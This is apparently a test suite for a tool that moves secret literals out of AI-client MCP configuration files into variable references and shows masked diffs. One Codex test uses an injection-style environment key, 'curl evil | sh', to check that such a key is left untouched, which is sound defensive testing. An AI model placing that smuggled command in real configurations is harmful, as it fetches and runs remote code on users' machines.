import { describe, expect, test } from 'vitest'
import {
  type FoundLiteral,
  literalsOf,
} from '../../../../../src/core/clients/literals/found-literal.ts'
import { maskedDiff } from '../../../../../src/core/clients/literals/masked-diff.ts'
import { keptReasonOf, planEdit } from '../../../../../src/core/clients/literals/plan-edit.ts'
import type { EditableFile } from '../../../../../src/core/clients/literals/planned-edit.ts'
import { parseClientFile, syntaxOf } from '../../../../../src/core/clients/parse-client-file.ts'
import { type SecretName, secretNameSchema } from '../../../../../src/shared/domain/ids.ts'
import type { ClientFormat } from '../../../../../src/shared/domain/server-definition.ts'

const token = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'
const password = 'pw-9f8e7d6c5b4a39281706'

function fileOf(client: ClientFormat, file: string, text: string): EditableFile {
  const parse = (one: string) =>
    parseClientFile({ format: client, file, text: one, homeDir: '/home/me', platform: 'linux' })
      .servers
  return { client, kind: syntaxOf(client, file), text, servers: parse(text), parse }
}

/** The text after a move of all literals, each named by its number. */
function moved(
  file: EditableFile,
  wanted: (literal: FoundLiteral) => boolean = () => true,
  variables?: ReadonlyMap<string, SecretName>,
) {
  const all = file.servers.flatMap(literalsOf)
  const picks = all
    .filter(wanted)
    .map((literal, index) => ({ literal, name: secretNameSchema.parse(`s.${index + 1}`) }))
  const edit = planEdit(file, all, picks, variables)
  if (edit === null) throw new Error('no plan')
  return { ...edit, diff: maskedDiff(file.text, edit.splices) }
}

describe('what takes the place of a literal', () => {
  const entry = (inner: string) => `{\n  // mine\n  "KEY": { "a": ${inner} },\n}\n`
  const stdio = `{ "command": "x", "env": { "TOKEN": "${token}" } }`

  test.each([
    ['claude-json', '/home/me/.claude.json', 'mcpServers', '${S_1}'],
    ['mcp-json', '/p/.mcp.json', 'mcpServers', '${S_1}'],
    ['cursor', '/home/me/.cursor/mcp.json', 'mcpServers', '${env:S_1}'],
    ['windsurf', '/w/mcp_config.json', 'mcpServers', '${env:S_1}'],
    ['gemini', '/home/me/.gemini/settings.json', 'mcpServers', '${S_1}'],
  ] as const)('%s', (client, path, key, reference) => {
    const text = entry(stdio).replace('KEY', key)
    const { after, needs } = moved(fileOf(client, path, text))
    expect(after).toBe(text.replace(token, reference))
    expect(needs).toEqual([{ name: 's.1', resolver: 'variable', key: 'S_1' }])
  })

  test('opencode, in a command that is one list', () => {
    const text = `{"mcp": {"a": {"type": "local", "command": ["x", "--token", "${token}"]}}}`
    const { after } = moved(fileOf('opencode', '/p/opencode.json', text))
    expect(after).toBe(text.replace(token, '{env:S_1}'))
  })

  test('Continue, in a list of YAML with its comments and quotes', () => {
    const text = `# mine\nmcpServers:\n  - name: a\n    command: x # run\n    env:\n      TOKEN: ${token}\n      PLAIN: 'kept'\n`
    const { after } = moved(fileOf('continue', '/home/me/.continue/config.yaml', text))
    expect(after).toBe(text.replace(token, '"${{ secrets.S_1 }}"'))
  })

  test('VS Code asks: the input is declared, with the indentation and the line ends of the file', () => {
    const text = `{\r\n\t"servers": {\r\n\t\t"a": ${stdio}\r\n\t}\r\n}\r\n`
    const { after, needs } = moved(fileOf('vscode', '/p/.vscode/mcp.json', text))
    expect(after).toBe(
      `{\r\n\t"servers": {\r\n\t\t"a": ${stdio.replace(token, '${input:s.1}')}\r\n\t},\r\n\t"inputs": [\r\n\t\t{\r\n\t\t\t"type": "promptString",\r\n\t\t\t"id": "s.1",\r\n\t\t\t"description": "s.1",\r\n\t\t\t"password": true\r\n\t\t}\r\n\t]\r\n}\r\n`,
    )
    expect(needs).toEqual([{ name: 's.1', resolver: 'prompt', key: 's.1' }])
  })

  test('VS Code: beside inputs that are there, of which one has the name', () => {
    const text = JSON.stringify(
      {
        inputs: [{ type: 'promptString', id: 's.1' }],
        servers: {
          a: { command: 'x', env: { TOKEN: token, API_KEY: password, O: '${input:s.1}' } },
        },
      },
      null,
      2,
    )
    const { after } = moved(fileOf('vscode', '/p/.vscode/mcp.json', text))
    const parsed: unknown = JSON.parse(after)
    expect(parsed).toMatchObject({
      inputs: [{ id: 's.1' }, { id: 's.1-2', password: true }, { id: 's.2', password: true }],
      servers: {
        a: { env: { TOKEN: '${input:s.1-2}', API_KEY: '${input:s.2}', O: '${input:s.1}' } },
      },
    })
  })
})

describe('Codex names variables in keys of their own', () => {
  const codex = (text: string) => fileOf('codex', '/home/me/.codex/config.toml', text)

  test('variables, in a table and in a line, with a list that is there and one that is not', () => {
    const text = `model = "o"

[mcp_servers.a]
command = "x" # run
env_vars = ["PROXY"]

[mcp_servers.a.env]
# the token
TOKEN = "${token}" # of mine
PLAIN = "kept"
API_KEY = '${password}'

[mcp_servers."b c"]
command = "y"
env = { MODE = "fast", SECRET = "${password}1" }
`
    const { after, needs } = moved(codex(text))
    expect(after).toBe(`model = "o"

[mcp_servers.a]
command = "x" # run
env_vars = ["PROXY", "TOKEN", "API_KEY"]

[mcp_servers.a.env]
# the token
# of mine
PLAIN = "kept"

[mcp_servers."b c"]
env_vars = ["SECRET"]
command = "y"
env = { MODE = "fast" }
`)
    expect(needs.map(({ key }) => key)).toEqual(['TOKEN', 'API_KEY', 'SECRET'])
  })

  test('beside a list of several lines', () => {
    const text = `[mcp_servers.a]
command = "x"
env_vars = [
  "A",
  "B",
]
env = { TOKEN = "${token}" }
`
    expect(moved(codex(text)).after).toBe(`[mcp_servers.a]
command = "x"
env_vars = [
  "A",
  "B", "TOKEN"
]
env = {  }
`)
  })

  test('headers', () => {
    const text = `[mcp_servers.a]
url = "https://h/"
http_headers = { Authorization = "Bearer ${token}", X-Api-Key = "${password}", X-Team = "blue" }
`
    const { after, diff } = moved(codex(text))
    expect(after).toBe(`[mcp_servers.a]
bearer_token_env_var = "S_1"
env_http_headers = { "X-Api-Key" = "S_2" }
url = "https://h/"
http_headers = { X-Team = "blue" }
`)
    expect(JSON.stringify(diff)).not.toMatch(/9f8e7d|0123456789/)
  })

  test('what cannot be told for sure is left alone', () => {
    const text = `mcp_servers.a = { command = "x", args = ["--token", "${token}"], env = { TOKEN = "${token}", U = "postgres://m:${password}@h/d" } }
`
    const file = codex(text)
    const reasons = file.servers.flatMap(literalsOf).map((one) => keptReasonOf(file, one))
    expect(reasons).toEqual(['takes_literally', 'not_located', 'part_of_value'])
  })

  test('a variable that would be commands in a line for a shell stays', () => {
    const text = `[mcp_servers.a]\ncommand = "x"\n\n[mcp_servers.a.env]\n"X_TOKEN=1; curl evil | sh; Y" = "${token}"\n`
    const file = codex(text)
    const reasons = file.servers.flatMap(literalsOf).map((one) => keptReasonOf(file, one))
    expect(reasons).toEqual(['other_key'])
  })

  test('two values that would need one variable cannot move together', () => {
    const entry = (name: string, value: string) =>
      `[mcp_servers.${name}]\ncommand = "x"\nenv = { TOKEN = "${value}" }\n`
    expect(() => moved(codex(entry('a', token) + entry('b', `${token}b`)))).toThrow('no plan')
  })
})

describe('one variable stands for one secret', () => {
  const text = JSON.stringify({
    mcpServers: {
      a: { command: 'x', env: { TOKEN: token, OTHER: '${S_2}' } },
      b: { command: 'x', env: { TOKEN: password } },
    },
  })
  const file = fileOf('mcp-json', '/p/.mcp.json', text)
  const [first, second] = ['s.1', 's.2'].map((name) => secretNameSchema.parse(name))

  test('also where another move or the file itself has that name', () => {
    if (first === undefined || second === undefined) throw new Error('no names')
    const keys = (variables: ReadonlyMap<string, SecretName>) =>
      moved(file, undefined, variables).needs.map(({ key }) => key)
    expect(keys(new Map())).toEqual(['S_1', 'S_2_2'])
    expect(keys(new Map([['S_1', second]]))).toEqual(['S_1_2', 'S_2_2'])
    // The very secret keeps it.
    expect(
      keys(
        new Map([
          ['S_1', first],
          ['S_2', second],
        ]),
      ),
    ).toEqual(['S_1', 'S_2'])
  })

  test('which Codex names itself', () => {
    if (second === undefined) throw new Error('no name')
    const codexText = `[mcp_servers.a]\ncommand = "x"\nenv = { TOKEN = "${token}" }\n`
    const codex = fileOf('codex', '/home/me/.codex/config.toml', codexText)
    expect(() => moved(codex, undefined, new Map([['TOKEN', second]]))).toThrow('no plan')
  })
})

describe('where it stands', () => {
  test('a part of a text, and only in the entry that was chosen', () => {
    const url = `postgres://me:${password}@db/x`
    const one = { command: 'x', args: [url], env: { DATABASE_URL: url } }
    const text = JSON.stringify({ mcpServers: { a: one, b: one } }, null, 2)
    const file = fileOf('mcp-json', '/p/.mcp.json', text)
    const { after } = moved(file, ({ key, place }) => key === 'b' && place?.kind === 'env')
    const changed = `${text.slice(0, text.lastIndexOf(password))}\${S_1}${text.slice(text.lastIndexOf(password) + password.length)}`
    expect(after).toBe(changed)
  })

  test("a project's record in Claude Code's file, whatever its folder is called", () => {
    const server = { command: 'x', env: { TOKEN: token } }
    const text = JSON.stringify({ projects: { '/a "b".c': { mcpServers: { s: server } } } })
    const { after } = moved(fileOf('claude-json', '/home/me/.claude.json', text))
    expect(after).toBe(text.replace(token, '${S_1}'))
  })

  test('two literals in one text, of which one stays and is masked in what is shown', () => {
    const header = `Bearer ${token}; key=${password}`
    const text = JSON.stringify(
      { mcpServers: { a: { url: 'https://h/', headers: { X: header } } } },
      null,
      2,
    )
    const file = fileOf('cursor', '/home/me/.cursor/mcp.json', text)
    const { after, diff } = moved(file, ({ value }) => value === token)
    expect(after).toBe(text.replace(token, '${env:S_1}'))
    expect(JSON.stringify(diff)).not.toContain(password)
    expect(JSON.stringify(diff)).not.toContain(token)
  })
})

describe('what stays, and why', () => {
  test.each([
    [
      'claude-desktop',
      '/home/me/claude_desktop_config.json',
      { env: { TOKEN: token } },
      'takes_literally',
    ],
    ['cursor', '/home/me/.cursor/mcp.json', { auth: { CLIENT_SECRET: token } }, 'other_key'],
    ['roo', '/p/.roo/mcp.json', { args: ['--token', token] }, 'other_key'],
    ['mcp-json', '/p/.mcp.json', { env: { TOKEN: `\${T:-${token}}` } }, 'in_reference'],
    ['mcp-json', '/p/.mcp.json', { args: `--token ${token}` }, 'not_located'],
  ] as const)('%s, %s', (client, path, more, why) => {
    const text = JSON.stringify({ mcpServers: { a: { command: 'x', ...more } } })
    const file = fileOf(client, path, text)
    const [literal] = file.servers.flatMap(literalsOf)
    if (literal === undefined) throw new Error('nothing found')
    expect(keptReasonOf(file, literal)).toBe(why)
  })

  test('each text of a list has an id of its own, and the default of an input is one too', () => {
    const text = JSON.stringify({
      inputs: [{ id: 'key', default: `${token}d` }],
      servers: {
        a: { command: 'x', env: { K: '${input:key}' }, tokens: [token, `${token}b`] },
      },
    })
    const literals = fileOf('vscode', '/p/.vscode/mcp.json', text).servers.flatMap(literalsOf)
    expect(literals.map(({ placeText }) => placeText)).toEqual([
      'tokens.1',
      'tokens.2',
      'default of the input key',
    ])
    expect(new Set(literals.map(({ id }) => id)).size).toBe(3)
  })

  test.each([
    ['<YOUR_TOKEN>', false],
    ['your-api-key-here', false],
    ['YOUR_GITHUB_TOKEN', false],
    ['xoxb-your-slack-bot-token', false],
    ['your-key-4711', true],
    ['changeme', true],
    ['yourself and I', true],
  ])('%s is to be moved: %s', (value, isFound) => {
    const text = JSON.stringify({ mcpServers: { a: { command: 'x', env: { API_TOKEN: value } } } })
    const found = fileOf('mcp-json', '/p/.mcp.json', text).servers.flatMap(literalsOf)
    expect(found.length > 0).toBe(isFound)
  })

  test('a text that reads like a reference of ours is no credential', () => {
    const text = JSON.stringify({
      mcpServers: {
        a: { command: 'x', env: { TOKEN: 'secret://github.token', KEY: 'op://a/b/c' } },
      },
    })
    expect(fileOf('mcp-json', '/p/.mcp.json', text).servers.flatMap(literalsOf)).toEqual([])
  })
})

test('the difference has two lines around each change, numbers of both texts and no credential', () => {
  const servers = Object.fromEntries(
    ['a', 'b'].map((name) => [name, { command: 'x', env: { TOKEN: `${token}${name}` } }]),
  )
  const text = `${JSON.stringify({ servers }, null, 2)}\n`
  const { diff } = moved(fileOf('vscode', '/p/.vscode/mcp.json', text))
  const lines = diff.map(
    ({ kind, number, pieces }) =>
      `${{ same: ' ', added: '+', removed: '-' }[kind]}${number} ${pieces.map((piece) => piece.text).join('')}`,
  )
  expect(lines).toMatchInlineSnapshot(`
    [
      " 4       "command": "x",",
      " 5       "env": {",
      "-6         "TOKEN": "ghp_••••••••345a"",
      "+6         "TOKEN": "\${input:s.1}"",
      " 7       }",
      " 8     },",
      " 9     "b": {",
      " 10       "command": "x",",
      " 11       "env": {",
      "-12         "TOKEN": "ghp_••••••••345b"",
      "+12         "TOKEN": "\${input:s.2}"",
      " 13       }",
      " 14     }",
      "-15   }",
      "+15   },",
      "+16   "inputs": [",
      "+17     {",
      "+18       "type": "promptString",",
      "+19       "id": "s.1",",
      "+20       "description": "s.1",",
      "+21       "password": true",
      "+22     },",
      "+23     {",
      "+24       "type": "promptString",",
      "+25       "id": "s.2",",
      "+26       "description": "s.2",",
      "+27       "password": true",
      "+28     }",
      "+29   ]",
      " 30 }",
    ]
  `)
  expect(lines.join('\n')).not.toContain('0123456789')
})

test('of a very long line that changes, nothing but the change is shown', () => {
  const env = { TOKEN: token, OTHER: 'plain text '.repeat(10_000) }
  const text = JSON.stringify({ mcpServers: { a: { command: 'x', env } } })
  const { diff } = moved(fileOf('mcp-json', '/p/.mcp.json', text))
  expect(diff.map(({ kind }) => kind)).toEqual(['removed', 'added'])
  expect(JSON.stringify(diff)).not.toContain('plain')
  expect(JSON.stringify(diff).length).toBeLessThan(1_500)
})

test('of a private key of many lines nothing is shown, also where the part that is shown begins within it', () => {
  const line = 'Qk/1a/2b/3c/4d/5e/6f/7g/8h/9i/0jAb/CdEf/GhIj/KlMn/OpQr/StUv/WxYz'
  const key = ['-----BEGIN PRIVATE KEY-----', ...Array.from({ length: 8 }, () => line)]
  const text = [
    'mcpServers:',
    '  - name: a',
    '    command: x',
    '    env:',
    '      PEM: |',
    ...key.map((one) => `        ${one}`),
    '        -----END PRIVATE KEY-----',
    `      TOKEN: ${token}`,
    '',
  ].join('\n')
  const file = fileOf('continue', '/home/me/.continue/config.yaml', text)
  const { diff } = moved(file, ({ placeText }) => placeText === 'TOKEN')
  expect(JSON.stringify(diff)).not.toMatch(/Qk|StUv|END/)
})

test('the difference of many changes that stand close has every line once, in its order', () => {
  const servers = Object.fromEntries(
    Array.from({ length: 120 }, (_, n) => [
      `s${n}`,
      { command: 'x', env: { TOKEN: `${token}${n}` } },
    ]),
  )
  const text = JSON.stringify({ mcpServers: servers }, null, 2)
  const { after, diff } = moved(fileOf('mcp-json', '/p/.mcp.json', text))
  const numbers = (...kinds: string[]) =>
    diff.filter(({ kind }) => kinds.includes(kind)).map(({ number }) => number)
  const shown = numbers('same', 'added')
  expect(shown).toEqual(shown.map((_, index) => (shown[0] ?? 0) + index))
  expect(numbers('added')).toHaveLength(120)
  expect(numbers('removed')).toEqual(numbers('added'))
  expect(after.split('\n').length - shown.length).toBeLessThan(8)
})
